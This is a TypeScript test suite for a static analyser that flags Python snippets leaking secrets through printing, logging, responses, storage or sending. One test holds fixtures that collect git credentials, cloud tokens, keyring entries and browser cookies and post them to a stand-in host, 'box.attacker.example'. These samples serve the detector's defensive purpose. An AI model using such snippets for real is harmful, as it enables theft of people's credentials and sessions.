import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analysed } from './hazards-of.ts';

/** The hazards of secrets, with what is told of them. */
const leaks = (source: string): readonly string[] =>
  analysed(source)
    .hazards.filter(({ hazard }) => /^(?:secret-|local-data)/.test(hazard))
    .map(({ hazard, detail }) => (detail === 'openly' ? `${hazard} openly` : hazard));

const told = (wanted: RegExp, ...sources: readonly string[]): void => {
  for (const source of sources) assert.match(leaks(source).join(), wanted, source);
};
const quiet = (...sources: readonly string[]): void => {
  for (const source of sources) assert.deepEqual(leaks(source), [], source);
};

const key = 'import os\nkey = os.environ["API_KEY"]\n';
const send = 'import requests\nrequests.post("https://box.attacker.example/in", json={"it": str(it)})';

test('settings of whatever library are secrets by their names', () => {
  told(
    /secret-shown/,
    'from dynaconf import Dynaconf\nconf = Dynaconf()\nprint(conf.DB_PASSWORD)',
    'from dynaconf import Dynaconf\nprint(Dynaconf().get("api_key"))',
    'from environs import Env\nenv = Env()\nprint(env("SMTP_PASSWORD"))',
    'import environ\nenv = environ.Env()\nprint(env.db("DATABASE_URL"))',
    'from decouple import AutoConfig\nconfig = AutoConfig()\nprint(config("SECRET_KEY"))',
    'from starlette.config import Config\nconfig = Config(".env")\nprint(config("API_SECRET"))',
    'import configparser\nc = configparser.ConfigParser()\nc.read("a.ini")\nprint(c["db"]["password"])',
    'from django.conf import settings\nprint(settings.PAYMENTS_SECRET_KEY)',
    `from omegaconf import OmegaConf\nc = OmegaConf.create({"k": "\${oc.env:OPENAI_API_KEY}"})\nprint(OmegaConf.to_yaml(c, resolve=True))`,
  );
  quiet(
    'from dynaconf import Dynaconf\nconf = Dynaconf()\nprint(conf.HOST, conf.get("port"))',
    'from environs import Env\nenv = Env()\nprint(env("HOST"))',
    'from decouple import AutoConfig\nconfig = AutoConfig()\nprint(config("DEBUG"))',
    'import configparser\nc = configparser.ConfigParser()\nc.read("a.ini")\nprint(c["db"]["host"])',
    'from django.conf import settings\nprint(settings.LANGUAGE_CODE)',
    `from omegaconf import OmegaConf\nc = OmegaConf.create({"k": "\${oc.env:OPENAI_API_KEY}"})\nprint(OmegaConf.to_yaml(c))`,
    'from omegaconf import OmegaConf\ndef main(cfg):\n    print(OmegaConf.to_yaml(cfg, resolve=True))',
  );
});

test('stores, vaults and prompts give secrets', () => {
  told(
    /secret-shown/,
    'from aws_lambda_powertools.utilities import parameters\nprint(parameters.get_secret("db"))',
    'from kubernetes import client\nprint(client.CoreV1Api().read_namespaced_secret("db", "x").data)',
    'import questionary\nprint(questionary.password("?").ask())',
    'import click\npw = click.prompt("Word", hide_input=True)\nprint(pw)',
    'from google_auth_oauthlib.flow import InstalledAppFlow\nc = InstalledAppFlow.from_client_secrets_file("c.json", []).run_local_server()\nprint(c.to_json())',
    'from sqlalchemy import URL\nu = URL.create("postgresql", password="x")\nprint(u.render_as_string(hide_password=False))',
    'from openai import OpenAI\nprint(OpenAI().api_key)',
    'import subprocess\nprint(subprocess.check_output(["nmcli", "-s", "connection", "show", "home"]))',
  );
  quiet(
    'from kubernetes import client\nfor s in client.CoreV1Api().list_namespaced_secret("x").items:\n    print(s.metadata.name)',
    'import click\nname = click.prompt("Name")\nprint(name)',
    'from sqlalchemy import URL\nu = URL.create("postgresql", password="x")\nprint(u.render_as_string(), u.host)',
    'import boto3\nc = boto3.Session().get_credentials()\nprint(c.method)',
    'import shlex\nprint(shlex.shlex("a b").get_token())',
    'from requests_oauthlib import OAuth2Session\nt = OAuth2Session("i").fetch_token("https://a.example.com/token")\nprint(t["expires_in"])',
  );
});

test('what a machine or its user logs in with goes to nobody else', () => {
  told(
    /secret-sent openly/,
    `import subprocess\nit = subprocess.run(["git", "credential", "fill"], capture_output=True).stdout\n${send}`,
    `import subprocess\nit = subprocess.check_output(["secret-tool", "lookup", "a", "b"])\n${send}`,
    `import boto3\nit = boto3.client("sts").assume_role(RoleArn="a", RoleSessionName="b")["Credentials"]\n${send}`,
    `import sqlite3\nit = sqlite3.connect("c").execute("select host, value from moz_cookies").fetchall()\n${send}`,
    `from azure.identity import DefaultAzureCredential\nit = DefaultAzureCredential().get_token("x").token\n${send}`,
    // The page is one of several that are asked for, over a session that is not known.
    `META = "http://metadata.google.internal/computeMetadata/v1/"\nPAGES = {"t": "instance/service-accounts/default/token"}\ndef read(session, page):\n    return session.get(META + page).text\ndef facts(session):\n    return {k: read(session, p) for k, p in PAGES.items()}\nit = facts(open_session())\n${send}`,
  );
  quiet(
    'import subprocess, requests\nt = subprocess.check_output(["gh", "auth", "token"])\nrequests.get("https://api.github.com/user", headers={"Authorization": t})',
    'from azure.identity import DefaultAzureCredential\nprint(DefaultAzureCredential().get_token("x").expires_on)',
    'META = "http://169.254.169.254/latest/meta-data/"\nimport requests\nfor page in ["instance-id", "placement/region"]:\n    print(requests.get(META + page).text)',
  );
  // Where a machine logs in by it, it has to say it; a person looks at that.
  const login =
    'import requests\nit = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://vault.example.com/v1/auth/kubernetes/login", json={"jwt": it})';
  assert.ok(!leaks(login).includes('secret-sent openly'));
});

test('libraries that carry something carry secrets', () => {
  told(
    /secret-s(?:hown|ent|tored)/,
    `${key}from django.core.mail import send_mail\nsend_mail("s", f"it is {key}", "a", ["b"])`,
    `${key}from jira import JIRA\nJIRA().create_issue(project="X", summary="s", description=key)`,
    `${key}from opentelemetry import trace\ntrace.get_current_span().add_event("on", {"k": key})`,
    `${key}from langfuse import Langfuse\nLangfuse().trace(name="x", metadata={"k": key})`,
    `${key}import gspread\ngspread.service_account().open("x").sheet1.append_row([key])`,
    `${key}from google.cloud import storage\nstorage.Client().bucket("b").blob("x").upload_from_string(key)`,
    `${key}import chromadb\nchromadb.Client().create_collection("x").add(documents=[key], ids=["1"])`,
    `${key}from fastapi import HTTPException\nraise HTTPException(502, detail=f"refused {key}")`,
    `${key}import zipfile\nzipfile.ZipFile("a.zip", "w").writestr("k", key)`,
    `${key}from loguru import logger\nlogger.bind(k=key).info("on")`,
  );
  quiet(
    `${key}from django.core.mail import send_mail\nsend_mail("s", "b", "a", ["b"], auth_password=key)`,
    `${key}from jira import JIRA\nJIRA(basic_auth=("u", key)).create_issue(project="X", summary="s")`,
    `${key}import apprise\na = apprise.Apprise()\na.add(f"tgram://{key}/1")\na.notify(body="done")`,
    `${key}from langfuse import Langfuse\nLangfuse(secret_key=key).trace(name="x")`,
    `${key}from autogen import AssistantAgent\nAssistantAgent("a", llm_config={"config_list": [{"api_key": key}]})`,
    `${key}import gitlab\ngitlab.Gitlab("https://g.example.com").projects.get(1).variables.create({"key": "K", "value": key})`,
    `${key}import paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.username_pw_set("u", key)\nc.publish("t", "1")`,
    `${key}from fastapi import FastAPI\nfrom starlette.middleware.sessions import SessionMiddleware\nFastAPI().add_middleware(SessionMiddleware, secret_key=key)`,
  );
});

test('an answer is made of what is set in it', () => {
  told(
    /secret-shown/,
    `${key}from fastapi import FastAPI, Response\napp = FastAPI()\n@app.get("/")\ndef f(response: Response):\n    response.headers["X-Key"] = key\n    return {}`,
    `${key}import falcon\nclass R:\n    def on_get(self, req, resp):\n        resp.media = {"k": key}`,
    `${key}from django.views.generic import TemplateView\nclass V(TemplateView):\n    def get_context_data(self, **kw):\n        ctx = super().get_context_data(**kw)\n        ctx["k"] = key\n        return ctx`,
    `${key}import graphene\nclass Q(graphene.ObjectType):\n    def resolve_key(self, info):\n        return key`,
    'from django.conf import settings\nfrom django.http import JsonResponse\ndef view(request):\n    return JsonResponse({n: getattr(settings, n) for n in dir(settings)})',
  );
  quiet(
    `${key}import requests\ns = requests.Session()\ns.headers["Authorization"] = key`,
    `${key}import jwt\nfrom fastapi import FastAPI, Response\napp = FastAPI()\n@app.post("/login")\ndef f(user, response: Response):\n    token = jwt.encode({"sub": user}, key)\n    response.set_cookie("session", token, secure=True, httponly=True)\n    return {"access_token": token}`,
    `${key}from flask import Flask, session\nfrom requests_oauthlib import OAuth2Session\napp = Flask("a")\n@app.route("/cb")\ndef cb():\n    session["oauth_token"] = OAuth2Session("i").fetch_token("https://a.example.com/token", client_secret=key)\n    return "ok"`,
    'from django.conf import settings\nfrom django.http import JsonResponse\ndef view(request):\n    return JsonResponse({"v": getattr(settings, "APP_VERSION", "dev")})',
  );
});

test('a switch that prints requests prints what they log in with', () => {
  const get = 'import requests\nrequests.get("https://api.example.com", headers={"Authorization": key})';
  told(
    /secret-shown/,
    `${key}import http.client\nhttp.client.HTTPConnection.debuglevel = 1\n${get}`,
    `${key}import http.client\nc = http.client.HTTPSConnection("h")\nc.set_debuglevel(1)\nc.request("GET", "/", headers={"Authorization": key})`,
    `${key}import smtplib\ns = smtplib.SMTP_SSL("h")\ns.set_debuglevel(1)\ns.login("u", key)`,
    `${key}import websocket\nwebsocket.enableTrace(True)\nwebsocket.create_connection("wss://h", header=[key])`,
    `${key}import logging\nlogging.getLogger("hpack").setLevel(logging.DEBUG)\n${get}`,
    `${key}import httpx\ndef hook(request):\n    for name, value in request.headers.items():\n        print(name, value)\nhttpx.Client(headers={"Authorization": key}, event_hooks={"request": [hook]})`,
  );
  quiet(
    `${key}import http.client\nhttp.client.HTTPConnection.debuglevel = 0\n${get}`,
    // Nothing there logs in.
    'import http.client\nhttp.client.HTTPConnection.debuglevel = 1\nhttp.client.HTTPSConnection("example.com").request("GET", "/")',
    `${key}import logging\nlogging.getLogger("urllib3").setLevel(logging.DEBUG)\n${get}`,
    `${key}import httpx\nHIDDEN = {"authorization"}\ndef hook(request):\n    for name, value in request.headers.items():\n        print(name, "***" if name.lower() in HIDDEN else value)\nhttpx.Client(headers={"Authorization": key}, event_hooks={"request": [hook]})`,
  );
});

test('a password that was just made is there to be seen', () => {
  quiet(
    'import secrets\npassword = "".join(secrets.choice("abcdef") for _ in range(20))\nprint(password)',
    'import secrets\nfrom pathlib import Path\nwords = Path("words").read_text().split()\npassphrase = "-".join(secrets.choice(words) for _ in range(6))\nprint(passphrase)',
  );
  told(/secret-shown/, 'import os\npassword = os.environ["DB_PASSWORD"]\nprint(password)');
});
